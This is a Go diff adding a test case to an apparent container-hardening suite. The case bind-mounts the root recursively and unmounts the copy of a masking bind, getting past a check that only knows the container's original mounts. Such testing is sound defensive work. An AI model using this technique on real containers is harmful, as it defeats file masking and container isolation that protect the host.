@@ -15,6 +15,7 @@ import (
 // with, and the in-container mounts that must keep working. They need a container with
 // CAP_SYS_ADMIN (privileged), a read-only bind at -ro-dir and a bind over -masked-file.
 var mountOrder = []string{
+	"rbind-unmask", // first: the others undo (under runc) the bind it copies
 	"umount-mask",
 	"umount-proc-file",
 	"remount-rw",
@@ -30,6 +31,7 @@ var mountAttacks = map[string]func(config) result{
 	"umount-proc-file": umountProcFile,
 	"remount-rw":       remountRW,
 	"new-mount-api":    newMountAPI,
+	"rbind-unmask":     rbindUnmask,
 	"mount-race":       mountRace,
 	"reboot":           rebootCall,
 	"tmpfs-mount":      tmpfsMount,
@@ -104,6 +106,25 @@ func newMountAPI(config) result {
 	}
 	_ = unix.Unmount("/proc", unix.MNT_DETACH)
 	return result{Result: succeeded, Detail: "covered /proc with a tmpfs through fsopen, fsmount and move_mount"}
+}
+
+// rbindUnmask copies the whole root with a recursive bind, then unmounts the copy of the
+// bind over the -masked-file: the copy is a new mount, so a check that only knows the
+// container's initial mounts would let it go, and the kernel's own file would show.
+func rbindUnmask(c config) result {
+	const dir = "/tmp/rbind"
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		return result{Result: na, Detail: err.Error()}
+	}
+	if err := unix.Mount("/", dir, "", unix.MS_BIND|unix.MS_REC, ""); err != nil {
+		return result{Result: blocked, Detail: "mount --rbind / " + dir + ": " + errName(err)}
+	}
+	defer unix.Unmount(dir, unix.MNT_DETACH)
+	copyOf := dir + c.maskedFile
+	if err := unix.Unmount(copyOf, unix.MNT_DETACH); err != nil {
+		return result{Result: blocked, Detail: "rbind worked; umount2 " + copyOf + ": " + errName(err)}
+	}
+	return result{Result: succeeded, Detail: "mount --rbind / " + dir + ", then unmounted the copy " + copyOf}
 }
 
 // mountRace mounts a tmpfs on a path that a second thread keeps rewriting between a
